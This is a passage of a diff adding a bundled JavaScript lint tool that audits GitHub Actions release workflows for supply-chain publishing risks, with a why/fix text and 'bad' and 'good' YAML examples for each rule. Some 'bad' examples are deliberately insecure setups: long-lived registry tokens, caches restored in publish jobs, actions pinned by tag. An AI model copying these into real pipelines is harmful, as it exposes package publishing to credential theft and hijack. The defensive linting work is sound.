+      - uses: actions/upload-artifact@330a01c490aca151604b8cf639adc76d48f6c5d4 # v5.0.0
+        with: { name: dist, path: dist/ }
+  publish:
+    needs: build
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+        with: { name: dist, path: dist/ }
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            for (const job of workflow.jobs) {
+                if ((0,workflow_model/* jobGrantsIdToken */.Bb)(job) !== true)
+                    continue;
+                if (facts.jobPublishes(job).length === 0 && !job.permissions?.idToken)
+                    continue;
+                const builds = job.steps.filter((step) => facts.build(step) !== undefined);
+                const first = builds[0];
+                if (!first)
+                    continue;
+                const firstLine = (0,workflow_model/* stepAnchor */.AK)(first).pos().line;
+                const others = [
+                    ...new Set(builds.slice(1).map((step) => (0,workflow_model/* stepAnchor */.AK)(step).pos().line)),
+                ].filter((line) => line !== firstLine);
+                const command = facts.build(first);
+                report((0,workflow_model/* stepAnchor */.AK)(first), `\`${command.split('\n')[0]}\` runs in job "${job.id}", which holds \`id-token: write\`${others.length > 0 ? ` (and so ${others.length === 1 ? 'does the step on line' : 'do the steps on lines'} ${others.join(', ')})` : ''}: every dependency's install script, build plugin and test runs with the power to mint an OIDC token and publish under this project's name.`, {
+                    needle: first.via ? undefined : command.split('\n')[0],
+                });
+            }
+        }
+    },
+};
+const cacheInPublishJob = {
+    id: 'cache-in-publish-job',
+    severity: 'warning',
+    title: 'The job that publishes restores a cache.',
+    why: "Caches are shared by the repository's workflows: a cache written by a compromised step anywhere on the default branch (a `pull_request_target` or `issue_comment` workflow, a dependency's install script) is restored into the job that can publish, and its code runs there (cache poisoning).",
+    fix: 'Remove `cache:` (and actions/cache) from the publishing job; build in another job and hand the packages over with upload-artifact and download-artifact.',
+    bad: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
+        with: { node-version: 24, cache: npm }
+      - run: npm publish
+`,
+    good: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
+        with: { node-version: 24 }
+      - run: npm publish
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            for (const job of workflow.jobs) {
+                if (facts.jobPublishes(job).length === 0)
+                    continue;
+                for (const step of job.steps) {
+                    const cache = (0,step_kinds/* cacheOf */.w7)(step);
+                    if (!cache)
+                        continue;
+                    report(step.via ? (0,workflow_model/* stepAnchor */.AK)(step) : cache, `${step.uses ?? 'A step'} restores a cache in job "${job.id}", which publishes: a cache poisoned by any other workflow run on this repository is unpacked here and runs with the power to publish.`, {
+                        key: !step.via && cache !== step.usesNode,
+                    });
+                }
+            }
+        }
+    },
+};
+const pypiReusableWorkflow = {
+    id: 'pypi-reusable-workflow',
+    severity: 'note',
+    title: 'A reusable workflow (`workflow_call`) publishes to PyPI.',
+    why: "PyPI's trusted publisher names the file that holds the publishing job (the token's `job_workflow_ref`), and it must be in the project's own repository: callers in other repositories cannot publish through this workflow, and the publisher must name this file, not the caller's.",
+    fix: 'Register this file (not the calling workflow) as the trusted publisher on PyPI, and call it only from this repository; other repositories need a publishing job of their own.',
+    bad: `on:
+  workflow_call: {}
+permissions: {}
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    good: `on:
+  workflow_dispatch: {}
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            const call = workflow.events.get('workflow_call');
+            if (!workflow.events.has('workflow_call'))
+                continue;
+            const publish = workflow.jobs
+                .flatMap((job) => facts.jobPublishes(job))
+                .find((p) => (p.registry === 'pypi' || p.registry === 'testpypi') && !p.usesToken);
+            if (!publish)
+                continue;
+            report(call ?? workflow.on ?? workflow.node, `This reusable workflow publishes to PyPI (${publish.tool}, line ${(0,workflow_model/* stepAnchor */.AK)(publish.step).pos().line}). PyPI's trusted publisher must name this file, ${workflow.file.rel.split('/').pop() ?? ''}, and only workflows of this repository can publish through it: a caller in another repository gets "invalid-publisher".`, {
+                key: true,
+            });
+        }
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/source.ts
+const invalidYaml = {
+    id: 'invalid-yaml',
+    severity: 'error',
+    title: 'A workflow or action file that is not valid YAML.',
+    why: 'GitHub does not run a workflow it cannot parse, and shows the error only on the Actions tab: the release workflow silently stops existing, and the next release day starts with "why did nothing run?".',
+    fix: 'Fix the YAML at the line shown (indentation, an unclosed quote or bracket, a tab, a `:` that needs quoting).',
+    bad: `on: { workflow_dispatch: {} }
+jobs:
+  publish:
+    runs-on: [ubuntu-latest
+    steps:
+      - run: echo "the list above is never closed"
+`,
+    good: `on: { workflow_dispatch: {} }
+jobs:
+  publish:
+    runs-on: [ubuntu-latest]
+    steps:
+      - run: echo "the list above is closed"
+`,
+    check() { },
+};
+const ignoreDirective = {
+    id: 'ignore-directive',
+    severity: 'warning',
+    title: 'A `# tokenless-ignore:` comment that names no known rule or gives no reason.',
+    why: 'A misspelt rule id ignores nothing, so the finding stays while everybody believes it was accepted; an ignore without a reason leaves the next maintainer unable to tell an accepted risk from a silenced one.',
+    fix: 'Write `# tokenless-ignore: RULE-ID reason` with an id from `tokenless doctor --list-rules` and the reason the risk is accepted.',
+    bad: `on: { workflow_dispatch: {} }
+permissions: { contents: read }
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: npm ci # tokenless-ignore: buld-in-publish-job
+`,
+    good: `on: { workflow_dispatch: {} }
+permissions: { contents: read }
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: npm ci # tokenless-ignore: build-in-publish-job installs only our own workspace packages
+`,
+    check() { },
+};
+
+// EXTERNAL MODULE: ./packages/cli/src/doctor/repository.ts + 1 modules
+var doctor_repository = __webpack_require__(1340);
+;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/supply-chain.ts
+// What a release workflow runs that is not in the repository: actions by a moving tag, and
+// local actions or workflows that are not there.
+
+
+const FIRST_PARTY = new Set(['actions', 'github']);
+/** Why `uses` is unpinned ('' when it is pinned, local or GitHub's own). */
+function unpinned(uses, repository) {
+    if ((0,doctor_repository/* isOwnAction */.lE)(repository, uses))
+        return '';
+    if ((0,workflow_model/* localPath */.$S)(uses) !== undefined)
+        return '';
+    if (uses.startsWith('docker://'))
+        return /@sha256:[0-9a-f]{64}$/i.test(uses) ? '' : 'a Docker tag';
+    const [name, ref] = uses.split('@');
+    const owner = name.split('/')[0].toLowerCase();
+    if (FIRST_PARTY.has(owner))
+        return '';
+    if (ref === undefined || ref === '')
+        return 'no version at all';
+    if (/^[0-9a-f]{40}$/i.test(ref))
+        return '';
+    return /^v?\d+(\.\d+)*$/.test(ref) ? `the tag ${ref}` : `the tag or branch ${ref}`;
+}
+const unpinnedAction = {
+    id: 'unpinned-action',
+    severity: 'warning',
+    title: 'A release workflow uses a third-party action (or reusable workflow) by tag or branch, not by commit SHA.',
+    why: "A tag or branch moves whenever its owner (or whoever takes over the account) pushes it: the next release runs that code, in the workflow that holds the publish permission. Commit SHAs do not move. Actions of `actions/*` and `github/*` (GitHub's own), local actions, and this repository's own actions by name (`owner/<this repository>/path@v1`, when `path` is here) are not reported.",
+    fix: 'Pin the full commit SHA and keep the version as a comment (`uses: owner/action@<40-hex sha> # v1.2.3`); Dependabot and Renovate keep such pins current.',
+    bad: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@v5
+      - uses: pypa/gh-action-pypi-publish@release/v1
+`,
+    good: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@v5
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            const release = facts.isReleaseWorkflow(workflow) ||
+                workflow.jobs.some((job) => (0,workflow_model/* jobGrantsIdToken */.Bb)(job) === true);
+            if (!release)
+                continue;
+            for (const job of workflow.jobs) {
+                const places = [];
+                const jobUses = job.uses?.str()?.trim();
+                if (jobUses && job.uses)
+                    places.push({ node: job.uses, uses: jobUses });
+                for (const step of job.steps)
+                    if (step.uses && step.usesNode)
+                        places.push({ node: step.usesNode, uses: step.uses });
+                for (const { node, uses } of places) {
+                    const why = unpinned(uses, repository);
+                    if (!why)
+                        continue;
+                    report(node, `\`${uses}\` runs whatever ${why} points to on the day of the release (its owner, or whoever takes over the account, can move it)${powers(job)}.`, {
+                        fix: `Pin the commit SHA that ${uses.split('@')[1] ?? 'the version you use'} points to today, and keep the version as a comment: \`uses: ${uses.split('@')[0]}@<40-hex sha> # ${uses.split('@')[1] ?? 'version'}\`.`,
+                    });
+                }
+            }
+        }
+    },
+};
+function powers(job) {
+    if ((0,workflow_model/* jobGrantsIdToken */.Bb)(job) === true)
+        return `, in job "${job.id}", which can mint a publish token`;
+    return `, in a workflow that releases`;
+}
+const missingLocalReference = {
+    id: 'missing-local-reference',
+    severity: 'error',
+    title: 'A local action (`uses: ./path`) or reusable workflow that is not in the repository, or a called workflow without `workflow_call`.',
+    why: 'GitHub fails the job when it reaches the step (or rejects the workflow for a missing reusable workflow): a renamed or deleted `action.yml` turns the next release into a failed run, often after the tag is already out.',
+    fix: 'Point `uses:` at the folder that holds `action.yml` (or `action.yaml`), or at the workflow file under .github/workflows, relative to the repository root.',
+    bad: `on: { workflow_dispatch: {} }
+permissions: { contents: read }
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
+      - uses: ./.github/actions/setup-that-was-renamed
+`,
+    good: `on: { workflow_dispatch: {} }
+permissions: { contents: read }
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
+      - run: npm ci
+`,
+    check({ repository, report }) {
+        for (const { step, job, ref, notReusable } of repository.missing) {
+            const node = step?.via?.usesNode ?? step?.usesNode ?? job?.uses;
+            if (!node)
+                continue;
+            if (notReusable) {
+                report(node, `${ref} has no \`workflow_call\` trigger, so it cannot be called as a reusable workflow: GitHub rejects this workflow before any job starts.`, {
+                    fix: `Add \`workflow_call:\` to the \`on:\` of ${ref}.`,
+                });
+                continue;
+            }
+            const what = step ? `no action.yml or action.yaml in ${ref}` : `no workflow file ${ref}`;
+            report(node, `${ref} is not in this repository (${what}): GitHub fails ${step ? 'the job when it reaches this step' : 'the run before any job starts'}.`);
+        }
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/tokens.ts
+// Registry credentials: long-lived tokens, setup-node's placeholder token, and an npm too old
+// to do trusted publishing.
+
+
+
+const TOKEN_SECRET = /(npm|pypi|twine|node_auth)/i;
+/** Inputs that take a token the suite accepts on purpose (npm's OIDC cannot deprecate). */
+const ALLOWED_TOKEN_INPUTS = new Set(['npm-deprecate-token']);
+function registryOfName(name) {
+    return /pypi|twine|uv_publish|poetry|hatch|flit|maturin|pdm/i.test(name) ? 'PyPI' : 'npm';
+}
+function walk(node, visit, key) {
+    visit(node, key);
+    if (node.isMap())
+        for (const [name, value] of node.entries())
+            walk(value, visit, name);
+    else if (node.isSeq())
+        for (const item of node.items())
+            walk(item, visit);
+}
+const longLivedToken = {
+    id: 'long-lived-token',
+    severity: 'error',
+    title: 'A long-lived registry token is used (NPM_TOKEN, NODE_AUTH_TOKEN, PYPI_API_TOKEN, TWINE_PASSWORD, an .npmrc `_authToken`).',
+    why: 'A registry token lives until someone revokes it: when it expires or is rotated, npm answers the publish with E404 Not Found (not an auth error) and the release dies looking like a missing package; while it lives, any step that can read it (a test dependency, an action) can copy it and publish anything, from anywhere.',
+    fix: 'Register a trusted publisher on the registry (npm: package settings → Trusted publishing; PyPI: project → Publishing) for this repository, workflow file and environment; give the publish job `id-token: write`; remove the token from the workflow and delete the secret.',
+    bad: `on: { release: { types: [published] } }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { contents: read }
+    steps:
+      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
+        with: { node-version: 24, registry-url: 'https://registry.npmjs.org' }
+      - run: npm publish
+        env:
+          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}
+`,
+    good: `on: { release: { types: [published] } }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
+        with: { node-version: 24 }
+      - run: npm publish
+`,
+    check({ repository, report }) {
+        for (const file of repository.files) {
+            for (const document of file.documents) {
+                const reported = new Set();
+                const once = (node, needle, message) => {
+                    const position = needle === undefined ? node.pos() : node.find(needle);
+                    const key = `${position.line}:${position.column}`;
+                    if (reported.has(key))
+                        return;
+                    reported.add(key);
+                    report(node, message, { needle });
+                };
+                walk(document, (node, key) => {
+                    const text = node.str();
+                    if (text === undefined || (key !== undefined && ALLOWED_TOKEN_INPUTS.has(key)))
+                        return;
+                    // A token variable set from a secret or a literal: `NODE_AUTH_TOKEN: ${{ secrets.X }}`.
+                    if (key !== undefined &&
+                        (0,step_kinds/* isTokenVariable */.U_)(key) &&
+                        text.trim() !== '' &&
+                        !(0,step_kinds/* isGithubToken */.VH)(text)) {
+                        const literal = (0,expressions/* expressionsIn */.l$)(text).length === 0 && !/^\$/.test(text.trim());
+                        const registry = registryOfName(key);
+                        once(node, undefined, literal
+                            ? `${key} is set to a literal value: a ${registry} token written into the workflow file is readable by anyone who can read the repository, and it stops working (E404 on npm's upload, 403 on PyPI's) the day it expires or is revoked.`
+                            : `${key} hands a long-lived ${registry} token (${text.trim()}) to the publish. When it expires or is revoked, ${registry === 'npm' ? 'npm answers the upload with E404 Not Found, not an auth error' : 'PyPI answers 403 "Invalid or non-existent authentication information"'}; while it lives, any step that can read it can publish anything.`);
+                        return;
+                    }
+                    for (const span of (0,expressions/* expressionsIn */.l$)(text)) {
+                        for (const path of (0,expressions/* contextPaths */.A9)(span.inner)) {
+                            const secret = /^secrets\.(.+)$/.exec(path)?.[1];
+                            if (!secret || !TOKEN_SECRET.test(secret) || /github/i.test(secret))
+                                continue;
+                            const registry = registryOfName(secret);
+                            once(node, span.text, `${span.text} is a long-lived ${registry} token. When it expires or is revoked, ${registry === 'npm' ? 'npm answers the upload with E404 Not Found, not an auth error' : 'PyPI answers 403 "Invalid or non-existent authentication information"'}, and the release dies halfway; while it lives, any step that can read it can copy it and publish anything.`);
+                        }
+                    }
+                    if (key === 'run' && /_authToken\s*=/.test(text)) {
+                        const line = text
+                            .split('\n')
+                            .find((each) => /_authToken\s*=/.test(each))
+                            .trim();
+                        once(node, line, 'The script writes a registry token into .npmrc (`_authToken=`): npm then uses this token instead of trusted publishing, and when it expires the publish fails with E404 Not Found.');
+                    }
+                });
+            }
+        }
+    },
+};
+/**
+ * `${{ inputs.x }}` in a composite action's step, read from the `with:` of the step that uses the
+ * action, or the input's default.
+ */
+function resolveActionInput(step, text) {
+    const name = text === undefined ? undefined : /^\$\{\{\s*inputs\.([\w-]+)\s*\}\}$/.exec(text.trim())?.[1];
+    if (name === undefined || !step.via || !step.action)
+        return text;
+    const given = step.via.with?.get(name)?.str();
+    if (given !== undefined)
+        return given;
+    return (step.action.inputs
+        .find((input) => input.name === name)
+        ?.node.get('default')
+        ?.str() ?? text);
+}
+/** The setup-node steps of a job. */
+function setupNodeSteps(job) {
+    return job.steps.filter((step) => (0,workflow_model/* actionName */.aM)(step.uses) === 'actions/setup-node');
+}
+const setupNodeRegistryUrl = {
+    id: 'setup-node-registry-url',
+    severity: 'error',
+    title: "setup-node's `registry-url` in a job that publishes to npm through trusted publishing.",
+    why: 'With `registry-url`, setup-node writes an .npmrc with `_authToken=${NODE_AUTH_TOKEN}` and sets NODE_AUTH_TOKEN to the placeholder `XXXXX-XXXXX-XXXXX-XXXXX`. When the OIDC exchange fails (no trusted publisher yet, a renamed workflow file, a first publish) npm falls back to that placeholder without a word, and the failure shows as E401/E404 on the upload instead of an OIDC error; tokenless publish-oidc refuses to run with it.',
+    fix: 'Remove `registry-url` from setup-node in the publishing job: npm reaches registry.npmjs.org by default and trusted publishing needs no .npmrc.',
+    bad: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
+        with:
+          node-version: 24
+          registry-url: https://registry.npmjs.org
+      - run: npm publish
+`,
+    good: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
+        with:
+          node-version: 24
+      - run: npm publish
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            for (const job of workflow.jobs) {
+                const oidc = facts.jobPublishes(job).filter((p) => p.registry === 'npm' && !p.usesToken);
+                if (oidc.length === 0)
+                    continue;
+                for (const setup of setupNodeSteps(job)) {
+                    const url = setup.with?.get('registry-url');
+                    const value = url?.str();
+                    if (!url || !value || /npm\.pkg\.github\.com/.test(value))
+                        continue;
+                    const publishOidc = oidc.some((p) => p.publishOidc);
+                    report(setup.via ? (0,workflow_model/* stepAnchor */.AK)(setup) : url, publishOidc
+                        ? `setup-node's \`registry-url\` writes an .npmrc with the placeholder token XXXXX-XXXXX-XXXXX-XXXXX in job "${job.id}": tokenless publish-oidc refuses to publish while a token is in reach, so this release stops here.`
+                        : `setup-node's \`registry-url\` writes an .npmrc whose token is the placeholder XXXXX-XXXXX-XXXXX-XXXXX in job "${job.id}", which publishes through trusted publishing (${oidc[0].tool}): whenever the OIDC exchange fails, npm silently uses the placeholder and the publish fails with E401/E404 instead of saying why.`, {
+                        key: !setup.via,
+                        severity: publishOidc ? 'error' : 'warning',
+                    });
+                }
+            }
+        }
+    },
+};
+/** Node versions as setup-node reads them: the lowest version the spec can resolve to. */
+function nodeVersionOf(spec) {
+    const text = spec.trim().replace(/^v/, '');
+    if (/^(latest|node|current|lts\/\*|lts\/krypton|lts\/-0)$/i.test(text))
+        return 'new';
+    const codenames = {
+        'lts/jod': 22,
+        'lts/iron': 20,
+        'lts/hydrogen': 18,
+        'lts/gallium': 16,
+        'lts/fermium': 14,
+    };
+    const codename = codenames[text.toLowerCase()];
+    if (codename !== undefined)
+        return { major: codename, minor: 99, patch: 0, exact: false };
+    const match = /^(\d+)(?:\.(\d+|x))?(?:\.(\d+|x))?$/i.exec(text);
+    if (!match)
+        return undefined;
+    const minor = match[2] === undefined || match[2] === 'x' ? undefined : Number(match[2]);
+    const patch = match[3] === undefined || match[3] === 'x' ? undefined : Number(match[3]);
+    return {
+        major: Number(match[1]),
+        minor: minor ?? 99,
+        patch: patch ?? 99,
+        exact: minor !== undefined,
+    };
+}
+/** An `npm install -g npm@<version>` (or `npx npm@x`) giving npm >= 11.5.1. */
+function upgradesNpm(step, scripts) {
+    return (0,step_kinds/* stepCommands */.Bs)(step, scripts).some((command) => {
+        const words = command.words;
+        if (words[0] === 'corepack' && words.some((word) => /^npm@/.test(word)))
+            return npmSpecOk(words.find((word) => /^npm@/.test(word)));
+        if (words[0] !== 'npm' && words[0] !== 'pnpm' && words[0] !== 'yarn')
+            return false;
+        if (!words.some((word) => word === '-g' || word === '--global' || word === 'global'))
+            return false;
+        const spec = words.slice(1).find((word) => word === 'npm' || word.startsWith('npm@'));
+        return spec !== undefined && npmSpecOk(spec);
+    });
+}
+function npmSpecOk(spec) {
+    const version = spec.slice('npm@'.length).replace(/^[\^~>=v]+/, '');
+    if (spec === 'npm' || version === '' || /^(latest|next|\$|\$\{)/.test(version))
+        return true;
+    const [major = 0, minor = 0, patch = 0] = version
+        .split('.')
+        .map((part) => Number.parseInt(part, 10) || 0);
+    return major > 11 || (major === 11 && (minor > 5 || (minor === 5 && patch >= 1)));
+}
+const npmTooOld = {
+    id: 'npm-too-old',
+    severity: 'error',
+    title: 'npm publishes through trusted publishing with an npm older than 11.5.1 (Node below 22.14, or Node 22 without an npm upgrade).',
+    why: "npm does the OIDC exchange only from 11.5.1 on; Node 22 and older bundle npm 10, and the runner's own Node is 20. An older npm never tries OIDC and the publish fails with ENEEDAUTH or E404, nothing about OIDC in the log. npm documents Node 22.14 as the minimum for trusted publishing.",
+    fix: 'Use `node-version: 24` in setup-node, or add `run: npm install -g npm@^11.5.1` before the publish (on Node 22.14 or later).',
+    bad: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
+        with: { node-version: 22 }
+      - run: npm publish --provenance --access public
+`,
+    good: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
+        with: { node-version: 22 }
+      - run: npm install -g npm@^11.5.1
+      - run: npm publish --provenance --access public
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            for (const job of workflow.jobs) {
+                const publish = facts
+                    .jobPublishes(job)
+                    .find((p) => p.registry === 'npm' &&
+                    !p.usesToken &&
+                    !p.publishOidc &&
+                    /^(npm publish|changeset publish|changesets\/action|JS-DevTools)/.test(p.tool));
+                if (!publish || job.container)
+                    continue;
+                const before = job.steps.slice(0, Math.max(0, job.steps.indexOf(publish.step)));
+                const upgraded = before.some((step) => upgradesNpm(step, repository.packageScripts)) ||
+                    upgradesNpm(publish.step, repository.packageScripts);
+                const setup = setupNodeSteps(job)
+                    .filter((step) => before.includes(step))
+                    .pop();
+                const line = (0,workflow_model/* stepAnchor */.AK)(publish.step).pos().line;
+                if (!setup) {
+                    if (upgraded)
+                        continue;
+                    report(job.node, `Job "${job.id}" publishes through trusted publishing (${publish.tool}, line ${line}) with the runner's own Node and npm (Node 20 with npm 10 on ubuntu-latest): npm before 11.5.1 never tries OIDC, so the publish fails with ENEEDAUTH or E404.`, {
+                        key: true,
+                        fix: 'Add actions/setup-node with `node-version: 24` before the publish (or `run: npm install -g npm@^11.5.1` on Node 22.14 or later).',
+                    });
+                    continue;
+                }
+                const input = setup.with?.get('node-version');
+                const spec = resolveActionInput(setup, input?.str());
+                if (spec === undefined || spec.includes('${{'))
+                    continue;
+                const version = nodeVersionOf(spec);
+                if (version === undefined || version === 'new')
+                    continue;
+                const anchor = setup.via ? (0,workflow_model/* stepAnchor */.AK)(setup) : input;
+                const below2214 = version.major < 22 || (version.major === 22 && version.minor < 14);
+                if (below2214) {
+                    report(anchor, `Node ${spec} is below 22.14.0, the minimum npm documents for trusted publishing, and its npm (10 or older) never tries OIDC: ${publish.tool} (line ${line}) fails with ENEEDAUTH or E404.`, {
+                        key: !setup.via,
+                        fix: 'Use `node-version: 24` in setup-node for the publishing job.',
+                    });
+                }
+                else if (!upgraded &&
+                    (version.major < 24 || (version.major === 24 && version.exact && version.minor < 5))) {
+                    report(anchor, `Node ${spec} bundles npm ${version.major === 24 ? '11.3 or 11.4' : '10'}, older than 11.5.1, and nothing upgrades npm before ${publish.tool} (line ${line}): npm never tries OIDC and the publish fails with ENEEDAUTH or E404.`, {
+                        key: !setup.via,
+                        fix: 'Use `node-version: 24`, or add `run: npm install -g npm@^11.5.1` before the publish.',
+                    });
+                }
+            }
+        }
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/triggers.ts
+// When a release workflow runs: triggers that never fire or fire too often, runs that race or
+// cancel each other, and pull_request_target running a pull request's code.
+
+
+/** The node to point at for an event of `on:`; `key` when the event is a map key. */
+function eventAnchor(workflow, name) {
+    const on = workflow.on;
+    if (on?.isMap()) {
+        const value = on.get(name);
+        if (value)
+            return { node: value, key: true };
+    }
+    if (on)
+        return { node: on, needle: name };
+    return { node: workflow.node };
+}
+function tagPushTrigger(workflow) {
+    const push = workflow.events.get('push');
+    return push?.get('tags') !== undefined;
+}
+const deadPublishTrigger = {
+    id: 'dead-publish-trigger',
+    severity: 'error',
+    title: 'A publish waits for a release or tag that this repository creates with GITHUB_TOKEN (it never fires).',
+    why: 'Events caused by GITHUB_TOKEN start no workflow (only workflow_dispatch and repository_dispatch are exempt). When one workflow creates the release or pushes the tag with GITHUB_TOKEN and another publishes `on: release` or `on: push: tags`, the publish never runs: versions are tagged and announced but never reach the registry (a dead publish path).',
+    fix: 'Publish in the workflow that creates the release, in a job that needs the release job; or create the release with a GitHub App token; or have the creating workflow start the publishing one with `gh workflow run` (workflow_dispatch).',
+    context: {
+        '.github/workflows/release-please.yml': `on: { push: { branches: [main] } }
+permissions: {}
+jobs:
+  release-please:
+    runs-on: ubuntu-latest
+    permissions: { contents: write, pull-requests: write }
+    steps:
+      - uses: googleapis/release-please-action@16a9c90856f42705d54a6fda1823352bdc62cf38 # v4.4.0
+`,
+    },
+    bad: `# Waits for the releases release-please.yml creates with GITHUB_TOKEN:
+on:
+  release:
+    types: [published]
+permissions: {}
+concurrency: { group: publish, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    good: `# The release and the publish in one workflow, one job after the other:
+on:
+  push:
+    branches: [main]
+permissions: {}
+concurrency: { group: release, cancel-in-progress: false }
+jobs:
+  release-please:
+    runs-on: ubuntu-latest
+    permissions: { contents: write, pull-requests: write }
+    outputs:
+      created: \${{ steps.release.outputs.release_created }}
+    steps:
+      - id: release
+        uses: googleapis/release-please-action@16a9c90856f42705d54a6fda1823352bdc62cf38 # v4.4.0
+  publish:
+    needs: release-please
+    if: needs.release-please.outputs.created == 'true'
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    check({ repository, facts, report }) {
+        const creators = repository.workflows
+            .filter((workflow) => !facts.publishesInWorkflow(workflow))
+            .flatMap((workflow) => workflow.jobs.flatMap((job) => facts.jobTags(job)))
+            .filter((creation) => creation.token === 'github-token');
+        for (const workflow of repository.workflows) {
+            if (!facts.publishesInWorkflow(workflow))
+                continue;
+            const others = creators.filter((creation) => creation.step.job?.workflow.file !== workflow.file);
+            const triggers = [];
+            if (workflow.events.has('release'))
+                triggers.push(['release', others.filter((c) => c.kind === 'release')]);
+            if (tagPushTrigger(workflow))
+                triggers.push(['push', others]);
+            for (const [event, matching] of triggers) {
+                const creation = matching[0];
+                if (!creation)
+                    continue;
+                const where = `${creation.step.job.workflow.file.rel}:${(0,workflow_model/* stepAnchor */.AK)(creation.step).pos().line}`;
+                const what = event === 'release'
+                    ? 'a release is published (`release:`)'
+                    : 'a tag is pushed (`push: tags`)';
+                const anchor = eventAnchor(workflow, event);
